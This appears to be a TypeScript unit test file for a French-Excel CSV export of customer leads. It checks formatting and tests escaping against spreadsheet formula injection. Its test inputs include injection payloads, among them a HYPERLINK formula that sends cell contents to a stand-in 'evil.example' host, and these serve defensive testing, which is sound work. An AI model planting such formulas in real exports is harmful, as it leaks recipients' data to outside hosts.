import { leadRow } from '../test-support';
import { csvCell, csvFileName, leadsCsv } from './csv';
import type { LeadRow } from './model';

const lead = (over: Partial<LeadRow> = {}): LeadRow =>
  leadRow({ created_at: '2026-07-14T07:05:00.000Z', status: 'contacte', ...over });

describe('the leads CSV for French Excel', () => {
  it('starts with the UTF-8 byte-order mark, separates cells with ; and rows with CRLF', () => {
    const text = leadsCsv([lead()]);
    expect(text.startsWith('\uFEFFReçue le;Statut;Nom;E-mail;')).toBe(true);
    const lines = text.slice(1).split('\r\n');
    expect(lines).toHaveLength(3); // header, one lead, the final line break
    expect(lines[2]).toBe('');
  });

  it('writes French dates in Paris time, labels and decimal commas', () => {
    const [, line] = leadsCsv([lead()]).slice(1).split('\r\n');
    expect(line).toBe(
      "14/07/2026 09:05;Contacté;Camille Muller;camille@example.fr;'06 12 34 56 78;67000;Strasbourg;35;Ponçage + huilage écologique;1540,00",
    );
  });

  it('leaves the estimate empty when there is none (a staircase is priced on site)', () => {
    const [, line] = leadsCsv([lead({ estimated_price: null })])
      .slice(1)
      .split('\r\n');
    expect(line?.endsWith(';')).toBe(true);
  });

  it.each([
    ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['  =1+1', "'  =1+1"],
    ['＝1+1', "'＝1+1"],
    ['Jean-Marc', 'Jean-Marc'],
    ['Dupont; et fils', '"Dupont; et fils"'],
    ['Il a dit "oui"', '"Il a dit ""oui"""'],
  ])('makes %j inert and intact: %s', (typed, cell) => {
    expect(csvCell(typed)).toBe(cell);
  });

  it('puts a visitor’s formula in a name, e-mail or city out of reach', () => {
    const text = leadsCsv([lead({ full_name: '=IMPORTXML(A2)', city: '@evil' })]);
    expect(text).toContain(";'=IMPORTXML(A2);");
    expect(text).toContain(";'@evil;");
    expect(text).not.toMatch(/;=/);
  });

  it('keeps a phone as text, with its leading zero', () => {
    const [, line] = leadsCsv([lead({ phone: '0612345678' })])
      .slice(1)
      .split('\r\n');
    expect(line).toContain(";'06 12 34 56 78;");
  });

  it('names the file with the day of the export in Paris', () => {
    expect(csvFileName(new Date('2026-11-26T23:30:00Z'))).toBe('demandes-2026-11-27.csv');
  });
});
